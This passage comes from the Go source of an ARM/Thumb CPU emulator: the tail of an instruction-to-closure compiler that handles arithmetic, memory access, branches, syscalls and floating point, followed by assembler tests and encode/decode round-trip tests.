	next := pc + insn.Size

	// op2 resolves the data-processing second operand.
	op2 := func(c *CPU) uint32 { return imm }
	if !insn.HasImm {
		op2 = func(c *CPU) uint32 { return c.R[rm] }
	}

	switch insn.Op {
	case OpADD:
		if !setf {
			if insn.HasImm {
				return func(c *CPU) stepRes { c.R[rd] = c.R[rn] + imm; return stepNext }, false, true
			}
			return func(c *CPU) stepRes { c.R[rd] = c.R[rn] + c.R[rm]; return stepNext }, false, true
		}
		return func(c *CPU) stepRes { c.R[rd] = c.addWithCarry(c.R[rn], op2(c), 0, true); return stepNext }, false, true
	case OpSUB:
		if !setf {
			if insn.HasImm {
				return func(c *CPU) stepRes { c.R[rd] = c.R[rn] - imm; return stepNext }, false, true
			}
			return func(c *CPU) stepRes { c.R[rd] = c.R[rn] - c.R[rm]; return stepNext }, false, true
		}
		return func(c *CPU) stepRes { c.R[rd] = c.addWithCarry(c.R[rn], ^op2(c), 1, true); return stepNext }, false, true
	case OpRSB:
		return func(c *CPU) stepRes { c.R[rd] = c.addWithCarry(op2(c), ^c.R[rn], 1, setf); return stepNext }, false, true
	case OpADC:
		return func(c *CPU) stepRes {
			carry := uint32(0)
			if c.C {
				carry = 1
			}
			c.R[rd] = c.addWithCarry(c.R[rn], op2(c), carry, setf)
			return stepNext
		}, false, true
	case OpSBC:
		return func(c *CPU) stepRes {
			carry := uint32(0)
			if c.C {
				carry = 1
			}
			c.R[rd] = c.addWithCarry(c.R[rn], ^op2(c), carry, setf)
			return stepNext
		}, false, true
	case OpAND:
		return bitwiseStep(rd, rn, op2, setf, func(a, b uint32) uint32 { return a & b }), false, true
	case OpORR:
		return bitwiseStep(rd, rn, op2, setf, func(a, b uint32) uint32 { return a | b }), false, true
	case OpEOR:
		return bitwiseStep(rd, rn, op2, setf, func(a, b uint32) uint32 { return a ^ b }), false, true
	case OpBIC:
		return bitwiseStep(rd, rn, op2, setf, func(a, b uint32) uint32 { return a &^ b }), false, true
	case OpLSL:
		return func(c *CPU) stepRes {
			sh := op2(c) & 0xff
			v := c.R[rn]
			if sh >= 32 {
				v = 0
			} else {
				v <<= sh
			}
			c.R[rd] = v
			if setf {
				c.setNZ(v)
			}
			return stepNext
		}, false, true
	case OpLSR:
		return func(c *CPU) stepRes {
			sh := op2(c) & 0xff
			v := c.R[rn]
			if sh >= 32 {
				v = 0
			} else {
				v >>= sh
			}
			c.R[rd] = v
			if setf {
				c.setNZ(v)
			}
			return stepNext
		}, false, true
	case OpASR:
		return func(c *CPU) stepRes {
			sh := op2(c) & 0xff
			if sh >= 32 {
				sh = 31
			}
			v := uint32(int32(c.R[rn]) >> sh)
			c.R[rd] = v
			if setf {
				c.setNZ(v)
			}
			return stepNext
		}, false, true
	case OpROR:
		return func(c *CPU) stepRes {
			sh := op2(c) & 31
			v := c.R[rn]
			v = v>>sh | v<<(32-sh)
			c.R[rd] = v
			if setf {
				c.setNZ(v)
			}
			return stepNext
		}, false, true
	case OpMUL:
		return func(c *CPU) stepRes {
			c.R[rd] = c.R[rn] * c.R[rm]
			if setf {
				c.setNZ(c.R[rd])
			}
			return stepNext
		}, false, true
	case OpSDIV:
		return func(c *CPU) stepRes {
			d := int32(c.R[rm])
			if d == 0 {
				c.R[rd] = 0
			} else {
				c.R[rd] = uint32(int32(c.R[rn]) / d)
			}
			return stepNext
		}, false, true
	case OpUDIV:
		return func(c *CPU) stepRes {
			d := c.R[rm]
			if d == 0 {
				c.R[rd] = 0
			} else {
				c.R[rd] = c.R[rn] / d
			}
			return stepNext
		}, false, true
	case OpMOV:
		if !setf {
			if insn.HasImm {
				return func(c *CPU) stepRes { c.R[rd] = imm; return stepNext }, false, true
			}
			return func(c *CPU) stepRes { c.R[rd] = c.R[rm]; return stepNext }, false, true
		}
		return func(c *CPU) stepRes {
			c.R[rd] = op2(c)
			c.setNZ(c.R[rd])
			return stepNext
		}, false, true
	case OpMVN:
		return func(c *CPU) stepRes {
			c.R[rd] = ^op2(c)
			if setf {
				c.setNZ(c.R[rd])
			}
			return stepNext
		}, false, true
	case OpMOVW:
		lo := imm & 0xffff
		return func(c *CPU) stepRes { c.R[rd] = lo; return stepNext }, false, true
	case OpMOVT:
		hi := imm << 16
		return func(c *CPU) stepRes { c.R[rd] = c.R[rd]&0xffff | hi; return stepNext }, false, true
	case OpCMP:
		return func(c *CPU) stepRes { c.addWithCarry(c.R[rn], ^op2(c), 1, true); return stepNext }, false, true
	case OpCMN:
		return func(c *CPU) stepRes { c.addWithCarry(c.R[rn], op2(c), 0, true); return stepNext }, false, true
	case OpTST:
		return func(c *CPU) stepRes { c.setNZ(c.R[rn] & op2(c)); return stepNext }, false, true
	case OpTEQ:
		return func(c *CPU) stepRes { c.setNZ(c.R[rn] ^ op2(c)); return stepNext }, false, true
	case OpLDR, OpLDRB, OpLDRH:
		ea := eaFunc(rn, rm, imm, insn.RegOffset)
		at := pc
		switch insn.Op {
		case OpLDR:
			return func(c *CPU) stepRes {
				a := ea(c)
				if badAddr(a) {
					return c.memFaultStep(at, a)
				}
				c.R[rd] = c.Mem.Read32(a)
				return stepNext
			}, false, true
		case OpLDRB:
			return func(c *CPU) stepRes {
				a := ea(c)
				if badAddr(a) {
					return c.memFaultStep(at, a)
				}
				c.R[rd] = uint32(c.Mem.Read8(a))
				return stepNext
			}, false, true
		default:
			return func(c *CPU) stepRes {
				a := ea(c)
				if badAddr(a) {
					return c.memFaultStep(at, a)
				}
				c.R[rd] = uint32(c.Mem.Read16(a))
				return stepNext
			}, false, true
		}
	case OpSTR, OpSTRB, OpSTRH:
		ea := eaFunc(rn, rm, imm, insn.RegOffset)
		at := pc
		switch insn.Op {
		case OpSTR:
			return func(c *CPU) stepRes {
				a := ea(c)
				if badAddr(a) {
					return c.memFaultStep(at, a)
				}
				c.Mem.Write32(a, c.R[rd])
				return stepNext
			}, false, true
		case OpSTRB:
			return func(c *CPU) stepRes {
				a := ea(c)
				if badAddr(a) {
					return c.memFaultStep(at, a)
				}
				c.Mem.Write8(a, uint8(c.R[rd]))
				return stepNext
			}, false, true
		default:
			return func(c *CPU) stepRes {
				a := ea(c)
				if badAddr(a) {
					return c.memFaultStep(at, a)
				}
				c.Mem.Write16(a, uint16(c.R[rd]))
				return stepNext
			}, false, true
		}
	case OpSTM:
		list, wb := insn.RegList, insn.Writeback
		count := popCount(list)
		at := pc
		return func(c *CPU) stepRes {
			base := c.R[rn]
			if wb { // push semantics: descending
				base -= 4 * count
			}
			if badAddr(base) {
				// Fault before the writeback lands (deopt contract).
				return c.memFaultStep(at, base)
			}
			if wb {
				c.R[rn] = base
			}
			addr := base
			for r := 0; r < 16; r++ {
				if list&(1<<r) != 0 {
					c.Mem.Write32(addr, c.R[r])
					addr += 4
				}
			}
			return stepNext
		}, false, true
	case OpLDM:
		list, wb := insn.RegList, insn.Writeback
		at := pc
		if list&(1<<PC) == 0 {
			return func(c *CPU) stepRes {
				addr := c.R[rn]
				if badAddr(addr) {
					return c.memFaultStep(at, addr)
				}
				for r := 0; r < 16; r++ {
					if list&(1<<r) != 0 {
						c.R[r] = c.Mem.Read32(addr)
						addr += 4
					}
				}
				if wb {
					c.R[rn] = addr
				}
				return stepNext
			}, false, true
		}
		// POP {..., PC}: a dynamic control transfer ending the block.
		from := pc
		return func(c *CPU) stepRes {
			addr := c.R[rn]
			if badAddr(addr) {
				return c.memFaultStep(at, addr)
			}
			var to uint32
			for r := 0; r < 16; r++ {
				if list&(1<<r) == 0 {
					continue
				}
				v := c.Mem.Read32(addr)
				addr += 4
				if r == PC {
					to = v
				} else {
					c.R[r] = v
				}
			}
			if wb {
				c.R[rn] = addr
			}
			c.SetThumbPC(to)
			c.EmitBranch(from, to&^1)
			return stepBranch
		}, true, true
	case OpB:
		tgt := next + imm
		if c.Thumb {
			tgt |= 1
		}
		from := pc
		return func(c *CPU) stepRes {
			c.SetThumbPC(tgt)
			c.EmitBranch(from, tgt&^1)
			return stepBranch
		}, true, true
	case OpBL:
		tgt := next + imm
		lr := next
		if c.Thumb {
			tgt |= 1
			lr |= 1
		}
		from := pc
		return func(c *CPU) stepRes {
			c.R[LR] = lr
			c.SetThumbPC(tgt)
			c.EmitBranch(from, tgt&^1)
			return stepBranch
		}, true, true
	case OpBX:
		from := pc
		return func(c *CPU) stepRes {
			to := c.R[rm]
			c.SetThumbPC(to)
			c.EmitBranch(from, to&^1)
			return stepBranch
		}, true, true
	case OpBLX:
		lr := next
		if c.Thumb {
			lr |= 1
		}
		from := pc
		return func(c *CPU) stepRes {
			to := c.R[rm]
			c.R[LR] = lr
			c.SetThumbPC(to)
			c.EmitBranch(from, to&^1)
			return stepBranch
		}, true, true
	case OpSVC:
		num := insn.Imm
		at := pc
		return func(c *CPU) stepRes {
			c.R[PC] = at // syscall handlers observe the interpreter's PC
			if c.SVC == nil {
				c.blockErr = fmt.Errorf("arm: SVC #%d at 0x%08x with no handler", num, at)
				return stepErr
			}
			if err := c.SVC(c, uint32(num)); err != nil {
				c.blockErr = fmt.Errorf("arm: SVC #%d at 0x%08x: %w", num, at, err)
				return stepErr
			}
			return stepNext
		}, true, true
	case OpNOP:
		return func(c *CPU) stepRes { return stepNext }, false, true
	case OpHLT:
		at := pc
		return func(c *CPU) stepRes {
			c.R[PC] = at
			c.Halted = true
			return stepHalt
		}, true, true
	case OpFADDS, OpFSUBS, OpFMULS, OpFDIVS:
		op := insn.Op
		return func(c *CPU) stepRes {
			a := f32(c.R[rn])
			b := f32(c.R[rm])
			var r float32
			switch op {
			case OpFADDS:
				r = a + b
			case OpFSUBS:
				r = a - b
			case OpFMULS:
				r = a * b
			default:
				r = a / b
			}
			c.R[rd] = f32bits(r)
			return stepNext
		}, false, true
	case OpFADDD, OpFSUBD, OpFMULD, OpFDIVD:
		op := insn.Op
		rd8, rn8, rm8 := insn.Rd, insn.Rn, insn.Rm
		return func(c *CPU) stepRes {
			a := c.readF64(rn8)
			b := c.readF64(rm8)
			var r float64
			switch op {
			case OpFADDD:
				r = a + b
			case OpFSUBD:
				r = a - b
			case OpFMULD:
				r = a * b
			default:
				r = a / b
			}
			c.writeF64(rd8, r)
			return stepNext
		}, false, true
	case OpSITOF:
		return func(c *CPU) stepRes { c.R[rd] = f32bits(float32(int32(c.R[rm]))); return stepNext }, false, true
	case OpFTOSI:
		return func(c *CPU) stepRes { c.R[rd] = uint32(int32(f32(c.R[rm]))); return stepNext }, false, true
	case OpSITOD:
		rd8 := insn.Rd
		return func(c *CPU) stepRes { c.writeF64(rd8, float64(int32(c.R[rm]))); return stepNext }, false, true
	case OpDTOSI:
		rm8 := insn.Rm
		return func(c *CPU) stepRes { c.R[rd] = uint32(int32(c.readF64(rm8))); return stepNext }, false, true
	}
	return nil, false, false
}

// bitwiseStep builds the shared executor shape of AND/ORR/EOR/BIC.
func bitwiseStep(rd, rn int, op2 func(*CPU) uint32, setf bool, apply func(a, b uint32) uint32) stepFn {
	if !setf {
		return func(c *CPU) stepRes {
			c.R[rd] = apply(c.R[rn], op2(c))
			return stepNext
		}
	}
	return func(c *CPU) stepRes {
		v := apply(c.R[rn], op2(c))
		c.R[rd] = v
		c.setNZ(v)
		return stepNext
	}
}

func f32(bits uint32) float32  { return math.Float32frombits(bits) }
func f32bits(v float32) uint32 { return math.Float32bits(v) }

// eaFunc builds the effective-address resolver for loads and stores.
func eaFunc(rn, rm int, imm uint32, regOffset bool) func(*CPU) uint32 {
	if regOffset {
		return func(c *CPU) uint32 { return c.R[rn] + c.R[rm] }
	}
	if imm == 0 {
		return func(c *CPU) uint32 { return c.R[rn] }
	}
	return func(c *CPU) uint32 { return c.R[rn] + imm }
}
