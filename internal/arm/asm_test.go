package arm

import (
	"strings"
	"testing"
)

func TestAssembleDirectives(t *testing.T) {
	prog, err := Assemble(`
	.equ MAGIC, 0x123
start:
	MOV R0, #MAGIC
data:
	.word 0xdeadbeef, start
	.half 0xbeef
	.byte 1, 2, 3
	.align 4
str:
	.asciz "hi"
buf:
	.space 8
end:
	NOP
`, 0x1000, nil)
	if err != nil {
		t.Fatal(err)
	}
	if prog.MustLabel("start") != 0x1000 {
		t.Errorf("start = %#x", prog.MustLabel("start"))
	}
	data := prog.MustLabel("data")
	w := wordAt(prog, data)
	if w != 0xdeadbeef {
		t.Errorf(".word = %#x", w)
	}
	if wordAt(prog, data+4) != 0x1000 {
		t.Errorf(".word label = %#x", wordAt(prog, data+4))
	}
	strAddr := prog.MustLabel("str")
	if strAddr%4 != 0 {
		t.Errorf(".align failed: str at %#x", strAddr)
	}
	off := strAddr - prog.Base
	if string(prog.Code[off:off+3]) != "hi\x00" {
		t.Errorf(".asciz = %q", prog.Code[off:off+3])
	}
	if prog.MustLabel("end")-prog.MustLabel("buf") != 8 {
		t.Error(".space size wrong")
	}
}

func wordAt(p *Program, addr uint32) uint32 {
	off := addr - p.Base
	return uint32(p.Code[off]) | uint32(p.Code[off+1])<<8 |
		uint32(p.Code[off+2])<<16 | uint32(p.Code[off+3])<<24
}

func TestAssembleExternVeneer(t *testing.T) {
	extern := map[string]uint32{"far_func": 0x2000_0000}
	prog, err := Assemble(`
	BL far_func
	B far_func
`, 0x1000, extern)
	if err != nil {
		t.Fatal(err)
	}
	// Each far branch expands to MOVW/MOVT/BLX|BX (12 bytes).
	if prog.Size() != 24 {
		t.Fatalf("veneer size = %d, want 24", prog.Size())
	}
	i0 := Decode(wordAt(prog, 0x1000))
	i1 := Decode(wordAt(prog, 0x1004))
	i2 := Decode(wordAt(prog, 0x1008))
	if i0.Op != OpMOVW || i0.Rd != 12 || uint32(i0.Imm) != 0x0000 {
		t.Errorf("veneer[0] = %+v", i0)
	}
	if i1.Op != OpMOVT || uint32(i1.Imm) != 0x2000 {
		t.Errorf("veneer[1] = %+v", i1)
	}
	if i2.Op != OpBLX || i2.Rm != 12 {
		t.Errorf("veneer[2] = %+v", i2)
	}
	i5 := Decode(wordAt(prog, 0x1014))
	if i5.Op != OpBX {
		t.Errorf("B veneer tail = %+v", i5)
	}
}

func TestAssembleErrors(t *testing.T) {
	cases := []struct {
		src  string
		want string
	}{
		{"BOGUS R0", "unknown mnemonic"},
		{"MOV R0", "expects 2 operands"},
		{"MOV R99, #1", "not a register"},
		{"ADD R0, R1, #99999", "out of range"},
		{"B undefined_label", "undefined symbol"},
		{"label:\nlabel:\nNOP", "duplicate label"},
		{".bogus 4", "unknown directive"},
		{".asciz nope", "bad string literal"},
		{"LDR R0, R1", "must be bracketed"},
		{"PUSH {}", "empty register list"},
		{".thumb\nLDR R0, =0x1234", "ARM-mode only"},
		{".thumb\nMOV R0, #999", "out of range"},
	}
	for _, c := range cases {
		_, err := Assemble(c.src, 0x1000, nil)
		if err == nil {
			t.Errorf("%q: expected error containing %q", c.src, c.want)
			continue
		}
		if !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: error %q does not contain %q", c.src, err, c.want)
		}
	}
}

func TestAssembleConditionSuffixes(t *testing.T) {
	prog, err := Assemble(`
	MOVEQ R0, #1
	ADDNE R1, R2, R3
	ADDS R1, R2, R3
	BLT somewhere
	BLE somewhere
	BLS somewhere
	BLEQ somewhere
somewhere:
	NOP
`, 0x1000, nil)
	if err != nil {
		t.Fatal(err)
	}
	checks := []struct {
		off  uint32
		op   Op
		cond Cond
		s    bool
	}{
		{0, OpMOV, CondEQ, false},
		{4, OpADD, CondNE, false},
		{8, OpADD, CondAL, true},
		{12, OpB, CondLT, false},
		{16, OpB, CondLE, false},
		{20, OpB, CondLS, false},
		{24, OpBL, CondEQ, false},
	}
	for _, c := range checks {
		i := Decode(wordAt(prog, 0x1000+c.off))
		if i.Op != c.op || i.Cond != c.cond || i.SetFlags != c.s {
			t.Errorf("at +%d: %+v, want op=%v cond=%v s=%v", c.off, i, c.op, c.cond, c.s)
		}
	}
}

func TestDisasmRoundTripReadable(t *testing.T) {
	cases := []struct {
		src  string
		want string
	}{
		{"ADD R0, R1, R2", "ADD R0, R1, R2"},
		{"ADD R0, R1, #7", "ADD R0, R1, #7"},
		{"MOV R3, #42", "MOV R3, #42"},
		{"MVN R3, R4", "MVN R3, R4"},
		{"LDR R0, [R1, #8]", "LDR R0, [R1, #8]"},
		{"LDR R0, [R1]", "LDR R0, [R1]"},
		{"STRB R0, [R1, R2]", "STRB R0, [R1, R2]"},
		{"PUSH {R4, R5, LR}", "PUSH {R4-R5, LR}"},
		{"POP {R4, PC}", "POP {R4, PC}"},
		{"CMP R1, #0", "CMP R1, #0"},
		{"BX LR", "BX LR"},
		{"SVC #5", "SVC #5"},
		{"FADDS R1, R2, R3", "FADDS R1, R2, R3"},
		{"SITOF R0, R1", "SITOF R0, R1"},
		{"MOVW R2, #0xbeef", "MOVW R2, #0xbeef"},
	}
	for _, c := range cases {
		prog, err := Assemble(c.src, 0x1000, nil)
		if err != nil {
			t.Fatalf("%q: %v", c.src, err)
		}
		insn := Decode(wordAt(prog, 0x1000))
		got := Disasm(insn, 0x1000)
		if got != c.want {
			t.Errorf("Disasm(%q) = %q, want %q", c.src, got, c.want)
		}
	}
}

func TestDisasmBranchTarget(t *testing.T) {
	prog, _ := Assemble(`
	B target
	NOP
target:
	NOP
`, 0x1000, nil)
	insn := Decode(wordAt(prog, 0x1000))
	if got := Disasm(insn, 0x1000); got != "B 0x00001008" {
		t.Errorf("branch disasm = %q", got)
	}
}

// TestAssemblerDeterminism: same input, same bytes.
func TestAssemblerDeterminism(t *testing.T) {
	src := `
f:
	PUSH {R4, LR}
	LDR R4, =f
	BL g
	POP {R4, PC}
g:
	BX LR
`
	a := MustAssemble(src, 0x4000, nil)
	b := MustAssemble(src, 0x4000, nil)
	if string(a.Code) != string(b.Code) {
		t.Fatal("nondeterministic assembly")
	}
}

// TestMultipleLabelsSameAddress: adjacent labels alias one location (used by
// libc's canonical/.insn pairs).
func TestMultipleLabelsSameAddress(t *testing.T) {
	prog := MustAssemble(`
alpha:
beta:
	NOP
`, 0x1000, nil)
	if prog.MustLabel("alpha") != prog.MustLabel("beta") {
		t.Error("adjacent labels must share the address")
	}
}
