package arm

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestEncodeDecodeRoundTrip(t *testing.T) {
	cases := []Insn{
		{Op: OpADD, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpADD, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2, SetFlags: true},
		{Op: OpSUB, Cond: CondNE, Rd: 3, Rn: 3, Imm: 17, HasImm: true},
		{Op: OpRSB, Cond: CondAL, Rd: 5, Rn: 6, Imm: 0, HasImm: true},
		{Op: OpAND, Cond: CondAL, Rd: 7, Rn: 8, Rm: 9},
		{Op: OpORR, Cond: CondAL, Rd: 1, Rn: 1, Imm: 0xff, HasImm: true},
		{Op: OpEOR, Cond: CondAL, Rd: 2, Rn: 2, Rm: 3},
		{Op: OpBIC, Cond: CondAL, Rd: 4, Rn: 4, Imm: 1, HasImm: true},
		{Op: OpLSL, Cond: CondAL, Rd: 0, Rn: 0, Imm: 4, HasImm: true},
		{Op: OpLSR, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpASR, Cond: CondAL, Rd: 0, Rn: 1, Imm: 31, HasImm: true},
		{Op: OpROR, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpMUL, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpSDIV, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpUDIV, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpMOV, Cond: CondAL, Rd: 0, Rm: 1},
		{Op: OpMOV, Cond: CondEQ, Rd: 0, Imm: 42, HasImm: true},
		{Op: OpMVN, Cond: CondAL, Rd: 0, Rm: 1},
		{Op: OpMVN, Cond: CondAL, Rd: 0, Imm: 7, HasImm: true},
		{Op: OpMOVW, Cond: CondAL, Rd: 12, Imm: 0xbeef, HasImm: true},
		{Op: OpMOVT, Cond: CondAL, Rd: 12, Imm: 0xdead, HasImm: true},
		{Op: OpCMP, Cond: CondAL, Rn: 4, Rm: 5},
		{Op: OpCMP, Cond: CondAL, Rn: 4, Imm: 100, HasImm: true},
		{Op: OpCMN, Cond: CondAL, Rn: 4, Rm: 5},
		{Op: OpTST, Cond: CondAL, Rn: 4, Imm: 8, HasImm: true},
		{Op: OpTEQ, Cond: CondAL, Rn: 4, Rm: 5},
		{Op: OpLDR, Cond: CondAL, Rd: 0, Rn: 1, Imm: 4},
		{Op: OpLDR, Cond: CondAL, Rd: 0, Rn: 1, Imm: -8},
		{Op: OpLDR, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2, RegOffset: true},
		{Op: OpLDRB, Cond: CondAL, Rd: 0, Rn: 1, Imm: 1},
		{Op: OpLDRH, Cond: CondAL, Rd: 0, Rn: 1, Imm: 2},
		{Op: OpSTR, Cond: CondAL, Rd: 0, Rn: SP, Imm: -4},
		{Op: OpSTRB, Cond: CondAL, Rd: 0, Rn: 1, Rm: 3, RegOffset: true},
		{Op: OpSTRH, Cond: CondAL, Rd: 0, Rn: 1, Imm: 6},
		{Op: OpLDM, Cond: CondAL, Rn: SP, RegList: 0x800f, Writeback: true},
		{Op: OpSTM, Cond: CondAL, Rn: SP, RegList: 0x40f0, Writeback: true},
		{Op: OpLDM, Cond: CondAL, Rn: 2, RegList: 0x00ff},
		{Op: OpB, Cond: CondAL, Imm: 64, HasImm: true},
		{Op: OpB, Cond: CondLT, Imm: -128, HasImm: true},
		{Op: OpBL, Cond: CondAL, Imm: 0x1000, HasImm: true},
		{Op: OpBX, Cond: CondAL, Rm: LR},
		{Op: OpBLX, Cond: CondAL, Rm: 12},
		{Op: OpSVC, Cond: CondAL, Imm: 17, HasImm: true},
		{Op: OpNOP, Cond: CondAL},
		{Op: OpHLT, Cond: CondAL},
		{Op: OpFADDS, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpFSUBS, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpFMULS, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpFDIVS, Cond: CondAL, Rd: 0, Rn: 1, Rm: 2},
		{Op: OpFADDD, Cond: CondAL, Rd: 0, Rn: 2, Rm: 4},
		{Op: OpSITOF, Cond: CondAL, Rd: 0, Rm: 1},
		{Op: OpFTOSI, Cond: CondAL, Rd: 0, Rm: 1},
		{Op: OpSITOD, Cond: CondAL, Rd: 0, Rm: 2},
		{Op: OpDTOSI, Cond: CondAL, Rd: 0, Rm: 2},
	}
	for _, want := range cases {
		want := want
		want.Size = 4
		normalizeRegs(&want)
		w, err := Encode(want)
		if err != nil {
			t.Fatalf("Encode(%+v): %v", want, err)
		}
		got := Decode(w)
		if got != want {
			t.Errorf("round trip mismatch:\n enc %+v\n dec %+v (word 0x%08x)", want, got, w)
		}
	}
}

// normalizeRegs sets unused register fields the way Decode reports them.
func normalizeRegs(i *Insn) {
	switch i.Op {
	case OpADD, OpSUB, OpRSB, OpADC, OpSBC, OpAND, OpORR, OpEOR, OpBIC,
		OpLSL, OpLSR, OpASR, OpROR:
		if i.HasImm {
			i.Rm = RegNone
		}
	case OpMOV, OpMVN:
		i.Rn = RegNone
		if i.HasImm {
			i.Rm = RegNone
		}
	case OpMOVW, OpMOVT:
		i.Rn, i.Rm = RegNone, RegNone
	case OpCMP, OpCMN, OpTST, OpTEQ:
		i.Rd = RegNone
		if i.HasImm {
			i.Rm = RegNone
		}
	case OpLDR, OpLDRB, OpLDRH, OpSTR, OpSTRB, OpSTRH:
		if !i.RegOffset {
			i.Rm = RegNone
		}
	case OpLDM, OpSTM:
		i.Rd, i.Rm = RegNone, RegNone
	case OpB, OpBL, OpSVC:
		i.Rd, i.Rn, i.Rm = RegNone, RegNone, RegNone
	case OpBX, OpBLX:
		i.Rd, i.Rn = RegNone, RegNone
	case OpNOP, OpHLT:
		i.Rd, i.Rn, i.Rm = RegNone, RegNone, RegNone
	case OpSITOF, OpFTOSI, OpSITOD, OpDTOSI:
		i.Rn = RegNone
	}
}

// TestDecodeNeverPanics feeds random words through the ARM decoder.
func TestDecodeNeverPanics(t *testing.T) {
	f := func(w uint32) bool {
		insn := Decode(w)
		return insn.Size == 4
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20000}); err != nil {
		t.Fatal(err)
	}
}

// TestThumbDecodeNeverPanics feeds random halfwords through the Thumb decoder.
func TestThumbDecodeNeverPanics(t *testing.T) {
	f := func(hw, hw2 uint16) bool {
		insn := DecodeThumb(hw, hw2)
		return insn.Size == 2 || insn.Size == 4
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20000}); err != nil {
		t.Fatal(err)
	}
}

// TestEncodeDecodeRandomDP is a property test: any data-processing
// instruction with in-range fields round-trips through the ARM encoding.
func TestEncodeDecodeRandomDP(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	ops := []Op{OpADD, OpSUB, OpRSB, OpADC, OpSBC, OpAND, OpORR, OpEOR, OpBIC, OpLSL, OpLSR, OpASR, OpROR}
	for i := 0; i < 5000; i++ {
		insn := Insn{
			Op:   ops[rng.Intn(len(ops))],
			Cond: Cond(rng.Intn(15)),
			Rd:   int8(rng.Intn(16)),
			Rn:   int8(rng.Intn(16)),
			Size: 4,
		}
		if rng.Intn(2) == 0 {
			insn.Imm = int32(rng.Intn(4096))
			insn.HasImm = true
			insn.Rm = RegNone
		} else {
			insn.Rm = int8(rng.Intn(16))
			insn.SetFlags = rng.Intn(2) == 0
		}
		w, err := Encode(insn)
		if err != nil {
			t.Fatalf("Encode(%+v): %v", insn, err)
		}
		if got := Decode(w); got != insn {
			t.Fatalf("mismatch: enc %+v dec %+v", insn, got)
		}
	}
}

func TestThumbRoundTrip(t *testing.T) {
	cases := []Insn{
		{Op: OpLSL, Rd: 0, Rn: 1, Imm: 4, HasImm: true, SetFlags: true},
		{Op: OpLSR, Rd: 2, Rn: 3, Imm: 1, HasImm: true, SetFlags: true},
		{Op: OpASR, Rd: 4, Rn: 5, Imm: 31, HasImm: true, SetFlags: true},
		{Op: OpADD, Rd: 0, Rn: 1, Rm: 2, SetFlags: true},
		{Op: OpSUB, Rd: 0, Rn: 1, Imm: 3, HasImm: true, SetFlags: true},
		{Op: OpMOV, Rd: 5, Imm: 200, HasImm: true, SetFlags: true},
		{Op: OpCMP, Rn: 3, Imm: 9, HasImm: true, SetFlags: true},
		{Op: OpADD, Rd: 2, Rn: 2, Imm: 100, HasImm: true, SetFlags: true},
		{Op: OpSUB, Rd: 2, Rn: 2, Imm: 50, HasImm: true, SetFlags: true},
		{Op: OpAND, Rd: 1, Rn: 1, Rm: 2, SetFlags: true},
		{Op: OpEOR, Rd: 1, Rn: 1, Rm: 2, SetFlags: true},
		{Op: OpMUL, Rd: 3, Rn: 3, Rm: 4, SetFlags: true},
		{Op: OpMVN, Rd: 3, Rm: 4, SetFlags: true},
		{Op: OpCMP, Rn: 1, Rm: 2, SetFlags: true},
		{Op: OpBX, Rm: LR},
		{Op: OpBLX, Rm: 4},
		{Op: OpMOV, Rd: 8, Rm: 0},
		{Op: OpLDR, Rd: 1, Rn: 2, Imm: 16},
		{Op: OpSTR, Rd: 1, Rn: 2, Imm: 0},
		{Op: OpLDRB, Rd: 1, Rn: 2, Imm: 5},
		{Op: OpSTRB, Rd: 1, Rn: 2, Imm: 31},
		{Op: OpLDRH, Rd: 1, Rn: 2, Imm: 8},
		{Op: OpSTRH, Rd: 1, Rn: 2, Imm: 2},
		{Op: OpLDR, Rd: 1, Rn: 2, Rm: 3, RegOffset: true},
		{Op: OpSTR, Rd: 1, Rn: 2, Rm: 3, RegOffset: true},
		{Op: OpLDR, Rd: 1, Rn: SP, Imm: 8},
		{Op: OpSTR, Rd: 1, Rn: SP, Imm: 1020},
		{Op: OpADD, Rd: 1, Rn: SP, Imm: 16, HasImm: true},
		{Op: OpADD, Rd: SP, Rn: SP, Imm: 24, HasImm: true},
		{Op: OpSUB, Rd: SP, Rn: SP, Imm: 8, HasImm: true},
		{Op: OpSTM, Rn: SP, Writeback: true, RegList: 1<<4 | 1<<LR},
		{Op: OpLDM, Rn: SP, Writeback: true, RegList: 1<<4 | 1<<PC},
		{Op: OpB, Cond: CondEQ, Imm: -10, HasImm: true},
		{Op: OpB, Imm: 100, HasImm: true},
		{Op: OpBL, Imm: -400, HasImm: true},
		{Op: OpSVC, Imm: 42, HasImm: true},
	}
	for i, want := range cases {
		want := want
		// All cases execute unconditionally except the one explicit B<cond>;
		// CondEQ is the zero value, so patch the default in.
		if !(want.Op == OpB && i == len(cases)-4) {
			want.Cond = CondAL
		}
		hws, err := EncodeThumb(want)
		if err != nil {
			t.Fatalf("EncodeThumb(%+v): %v", want, err)
		}
		var hw2 uint16
		if len(hws) == 2 {
			hw2 = hws[1]
		}
		got := DecodeThumb(hws[0], hw2)
		want.Size = uint32(2 * len(hws))
		// Decode reports absent registers as RegNone; normalize the
		// expectation accordingly.
		normalizeThumb(&want)
		if got != want {
			t.Errorf("thumb round trip mismatch:\n enc %+v\n dec %+v (hws %04x)", want, got, hws)
		}
	}
}

func normalizeThumb(i *Insn) {
	switch i.Op {
	case OpCMP, OpTST, OpCMN:
		i.Rd = RegNone
		if i.HasImm {
			i.Rm = RegNone
		}
	case OpMOV, OpMVN:
		i.Rn = RegNone
		if i.HasImm {
			i.Rm = RegNone
		}
	case OpLSL, OpLSR, OpASR:
		if i.HasImm {
			i.Rm = RegNone
		}
	case OpADD, OpSUB:
		if i.HasImm {
			i.Rm = RegNone
		}
	case OpLDR, OpLDRB, OpLDRH, OpSTR, OpSTRB, OpSTRH:
		if !i.RegOffset {
			i.Rm = RegNone
		}
	case OpLDM, OpSTM:
		i.Rd, i.Rm = RegNone, RegNone
